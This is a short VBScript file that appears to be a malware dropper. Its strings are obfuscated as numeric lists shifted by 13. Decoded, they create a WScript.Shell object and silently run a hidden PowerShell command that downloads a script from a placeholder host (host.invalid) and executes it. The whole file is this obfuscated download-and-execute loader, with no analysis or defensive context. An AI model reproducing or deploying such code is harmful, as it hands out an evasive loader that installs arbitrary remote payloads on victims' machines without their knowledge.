Function Turn(list, key)
  Dim one, made
  For Each one In Split(list, ".")
    made = made & Chr((CInt(one) - key) Mod 256)
  Next
  Turn = made
End Function
Dim host : Set host = CreateObject(Turn("100.96.112.127.118.125.129.59.96.117.114.121.121", 13))
Dim line
line = Turn("125.124.132.114.127.128.117.114.121.121.45.58.132.45.117.118.113.113.114.123.45.58.112.45.118.114.133.53.118.127.122.45.117.129.129.125.71.60.60.117.124.128.129.59.118.123.131.110.121.118.113.60.121.54", 13)
host.Run line, 0, False
